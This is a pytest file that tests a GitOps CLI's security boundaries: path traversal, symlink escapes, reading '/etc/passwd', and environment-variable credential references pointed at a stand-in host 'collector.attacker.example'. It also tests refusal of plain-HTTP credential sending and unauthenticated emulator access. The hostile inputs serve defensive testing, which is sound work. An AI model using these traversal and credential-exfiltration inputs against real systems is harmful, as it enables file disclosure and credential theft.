"""Trust boundaries: what a pull request may read, where credentials may go, who may call.

* A manifest (written by whoever opens a pull request) reads files only inside the manifest
  repository: ``${file:}``, ``productsFile`` and manifest files themselves, whether they
  escape by an absolute path, ``..``, ``~`` or a symbolic link. ``--allow-files-outside``
  is the explicit way out. A refused manifest writes nothing to the CRM.
* Credentials go over plain ``http://`` only to loopback; any other host is refused before a
  connection is opened (checked with a listener on this machine's own non-loopback address).
* The emulator answers nothing without valid credentials when it has them.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from tests.reliability.helpers import (
    TOKEN,
    Crm,
    copy_examples,
    is_write,
    read_inventory,
    run_cli,
    running_crm,
)

OUTSIDE_SECRET = "outside-secret-Hh4k9P"

CONNECTION = """\
apiVersion: quotesync.io/v1
kind: QuoteConnection
metadata:
  name: Leaky
spec:
  connector: DemoErpQuote
  config:
    baseUrl: https://erp.example.com/q
    apiUser: demo
    apiPassword: {reference}
"""

PRICE_LIST = """\
apiVersion: quotesync.io/v1
kind: PriceList
metadata:
  name: Leaky list
spec:
  currency: NOK
  validFrom: "2026-01-01"
  validTo: "2026-12-31"
  productsFile: {reference}
"""


@pytest.fixture
def crm(tmp_path: Path) -> Iterator[Crm]:
    with running_crm(tmp_path / "crm") as served:
        yield served


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A secret file next to, not inside, the manifest repository."""
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text(f"kind: {OUTSIDE_SECRET}\ncode,name\n{OUTSIDE_SECRET},x\n", encoding="utf-8")
    return secret


def _repo(tmp_path: Path) -> Path:
    (tmp_path / "crm").mkdir(exist_ok=True)
    return copy_examples(tmp_path)


def _writes(crm: Crm) -> int:
    """Agent writes that reached the CRM, plus anything it holds (it started empty)."""
    counts = crm.stats()["requests_per_path"]
    agent_writes = sum(
        n for path, n in counts.items() if "/Agents/" in path and is_write("POST", path)
    )
    with crm.client() as client:
        inventory = read_inventory(client)
    held = len(inventory.erp_connections) + len(inventory.quote_connections)
    return int(agent_writes) + held + len(inventory.price_lists) + len(inventory.products)


def _refused(crm: Crm, manifests: Path, *extra: str) -> str:
    """validate, plan and apply all refuse (exit 1) with file:line, and nothing is written."""
    outputs = []
    for command in (["validate"], ["plan"], ["apply", "--auto-approve"]):
        result = run_cli(command[0], str(manifests), *command[1:], *extra, env=crm.env)
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output
        assert OUTSIDE_SECRET not in result.output
        outputs.append(result.output)
    assert _writes(crm) == 0
    return outputs[0]


ESCAPES: dict[str, Callable[[Path, Path], str]] = {
    "absolute path": lambda secret, repo: str(secret),
    "dot-dot": lambda secret, repo: os.path.relpath(secret, repo / "quote"),
    "home": lambda secret, repo: "~/../../../../../../.." + str(secret),
}


@pytest.mark.parametrize("escape", list(ESCAPES))
def test_file_reference_outside_the_repository_is_refused(
    crm: Crm, tmp_path: Path, outside: Path, escape: str
) -> None:
    manifests = _repo(tmp_path)
    reference = ESCAPES[escape](outside, manifests)
    (manifests / "quote" / "leaky.yaml").write_text(
        CONNECTION.format(reference="${file:" + reference + "}"), encoding="utf-8"
    )
    message = _refused(crm, manifests)
    assert "quote/leaky.yaml:10:" in message
    assert "points outside the repository" in message


def test_file_reference_through_a_symlink_inside_the_repository_is_refused(
    crm: Crm, tmp_path: Path, outside: Path
) -> None:
    manifests = _repo(tmp_path)
    (manifests / "quote" / "innocent.txt").symlink_to(outside)
    (manifests / "quote" / "leaky.yaml").write_text(
        CONNECTION.format(reference="${file:innocent.txt}"), encoding="utf-8"
    )
    message = _refused(crm, manifests)
    assert "quote/leaky.yaml:10:" in message and "points outside the repository" in message


def test_etc_passwd_cannot_become_a_connector_field(crm: Crm, tmp_path: Path) -> None:
    manifests = _repo(tmp_path)
    (manifests / "quote" / "leaky.yaml").write_text(
        CONNECTION.format(reference="${file:/etc/passwd}"), encoding="utf-8"
    )
    message = _refused(crm, manifests)
    assert "root:" not in message and "points outside the repository" in message


@pytest.mark.parametrize("how", ["dot-dot", "symlink"])
def test_products_file_outside_the_repository_is_refused(
    crm: Crm, tmp_path: Path, outside: Path, how: str
) -> None:
    manifests = _repo(tmp_path)
    if how == "symlink":
        (manifests / "pricing" / "leaky.csv").symlink_to(outside)
        reference = "leaky.csv"
    else:
        reference = os.path.relpath(outside, manifests / "pricing")
    (manifests / "pricing" / "leaky.yaml").write_text(
        PRICE_LIST.format(reference=reference), encoding="utf-8"
    )
    message = _refused(crm, manifests)
    assert "pricing/leaky.yaml:9:" in message and "outside the repository" in message


def test_a_manifest_that_is_a_symlink_to_a_file_outside_is_refused(
    crm: Crm, tmp_path: Path, outside: Path
) -> None:
    """Else a pull request could point a manifest at any YAML on the runner (a CLI config
    with a token, say) and have its values quoted back in error messages."""
    manifests = _repo(tmp_path)
    config = outside.parent / "tool-config.yaml"
    config.write_text(f"apiVersion: quotesync.io/v1\nkind: {OUTSIDE_SECRET}\n", encoding="utf-8")
    (manifests / "settings" / "leaky.yaml").symlink_to(config)
    message = _refused(crm, manifests)
    assert "settings/leaky.yaml" in message and "outside the repository" in message


def test_allow_files_outside_is_the_explicit_way_out(
    crm: Crm, tmp_path: Path, outside: Path
) -> None:
    manifests = _repo(tmp_path)
    (manifests / "quote" / "leaky.yaml").write_text(
        CONNECTION.format(reference="${file:" + str(outside) + "}"), encoding="utf-8"
    )
    result = run_cli("plan", str(manifests), "--allow-files-outside", env=crm.env)
    assert result.exit_code == 0, result.output
    assert "QuoteConnection" in result.output and "Leaky" in result.output
    assert OUTSIDE_SECRET not in result.output  # read, and still a secret


@pytest.mark.parametrize(
    "reference",
    [
        "${env:QUOTESYNC_ACCESS_TOKEN}",
        "${env:QUOTESYNC_TICKET:-x}",
        "x${env:QUOTESYNC_APP_TOKEN}",
        "${env:QUOTESYNC_PRIVATE_KEY}",
        "${env:QUOTESYNC_SYSTEM_USER_TOKEN}",
        "${env:QUOTESYNC_REFRESH_TOKEN}",
        "${env:QUOTESYNC_CLIENT_SECRET}",
        "${env:QUOTESYNC_PASSWORD}",
    ],
)
def test_a_manifest_cannot_read_the_tools_own_crm_credentials(
    crm: Crm, tmp_path: Path, reference: str
) -> None:
    """Masked or not, a value read into a config field travels: to the connector, and with
    plan --test-connections to whatever endpoint the pull request wrote beside it."""
    manifests = _repo(tmp_path)
    (manifests / "quote" / "leaky.yaml").write_text(
        CONNECTION.format(reference=reference).replace(
            "https://erp.example.com/q", "https://collector.attacker.example"
        ),
        encoding="utf-8",
    )
    env = {**crm.env, "QUOTESYNC_TICKET": TOKEN, "QUOTESYNC_APP_TOKEN": TOKEN}
    env.pop("QUOTESYNC_ACCESS_TOKEN")
    for command in (["validate"], ["validate", "--no-env"], ["plan", "--test-connections"]):
        result = run_cli(command[0], str(manifests), *command[1:], env=env)
        assert result.exit_code == 1, result.output
        assert "quote/leaky.yaml:10:" in result.output
        assert "quotesync's own credential" in result.output
    assert _writes(crm) == 0


# --- plain http ------------------------------------------------------------------------------


def _own_address() -> str | None:
    """An address of this machine that is not loopback, if it has one."""
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("192.0.2.1", 9))  # no packet is sent for UDP connect
            address = str(probe.getsockname()[0])
    except OSError:
        return None
    return None if address.startswith("127.") else address


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A TCP listener on a non-loopback address of this machine, recording what arrives."""
    address = _own_address()
    if address is None:
        pytest.skip("this machine has no non-loopback IPv4 address")
    received: list[bytes] = []
    server = socket.socket()
    server.bind((address, 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(65536))
                except OSError:
                    received.append(b"(connected)")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield f"http://{address}:{server.getsockname()[1]}", received
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()


def test_credentials_are_never_sent_over_plain_http_off_loopback(
    tmp_path: Path, listener: tuple[str, list[bytes]]
) -> None:
    url, received = listener
    manifests = copy_examples(tmp_path)
    for env in (
        {"QUOTESYNC_ACCESS_TOKEN": TOKEN},
        {"QUOTESYNC_TICKET": TOKEN, "QUOTESYNC_APP_TOKEN": TOKEN + "-app"},
        {},
    ):
        result = run_cli("plan", str(manifests), "--crm", url, env=env)
        assert result.exit_code == 1
        assert "plain http:// off this machine" in result.output
        assert TOKEN not in result.output
    assert received == [], "a connection reached the non-loopback listener"


@pytest.mark.parametrize(
    "target",
    [
        "http://example.com",
        "http://127.0.0.1.nip.io:8080",
        "http://localhost.example.com",
        "http://0.0.0.0:8080",
        "http://10.0.0.1",
        "http://[fd00::2]:8080",
    ],
)
def test_plain_http_targets_that_only_look_local_are_refused(tmp_path: Path, target: str) -> None:
    manifests = copy_examples(tmp_path)
    result = run_cli("plan", str(manifests), "--crm", target, env={"QUOTESYNC_ACCESS_TOKEN": TOKEN})
    assert result.exit_code == 1, result.output
    assert "plain http:// off this machine" in result.output


# --- the emulator's own door -------------------------------------------------------------------


def test_the_served_emulator_refuses_missing_and_wrong_credentials(
    crm: Crm, tmp_path: Path
) -> None:
    manifests = copy_examples(tmp_path)
    for env in (
        {},
        {"QUOTESYNC_ACCESS_TOKEN": "guess"},
        {"QUOTESYNC_TICKET": TOKEN, "QUOTESYNC_APP_TOKEN": "x"},
    ):
        result = run_cli("apply", str(manifests), "--auto-approve", "--crm", crm.url, env=env)
        assert result.exit_code == 1
        assert "credentials refused (HTTP 401)" in result.output
    for path in ("/api/v1/Agents/ErpSync/GetAllConnections", "/_emulator/stats", "/api/v1/Product"):
        answer = (
            httpx.post(crm.url + path, json={}) if "Agents" in path else httpx.get(crm.url + path)
        )
        assert answer.status_code == 401
    assert _writes(crm) == 0


def test_emulator_serve_without_credentials_refuses_a_public_address() -> None:
    address = _own_address() or "0.0.0.0"
    env = {k: v for k, v in os.environ.items() if not k.startswith("QUOTESYNC_")}
    result = subprocess.run(
        [sys.executable, "-m", "quotesync_gitops", "emulator", "serve", "--host", address,
         "--port", "0", "--db", ":memory:"],
        env=env, capture_output=True, text=True, timeout=30, check=False,
    )  # fmt: skip
    assert result.returncode != 0
    assert "Serving" not in result.stdout
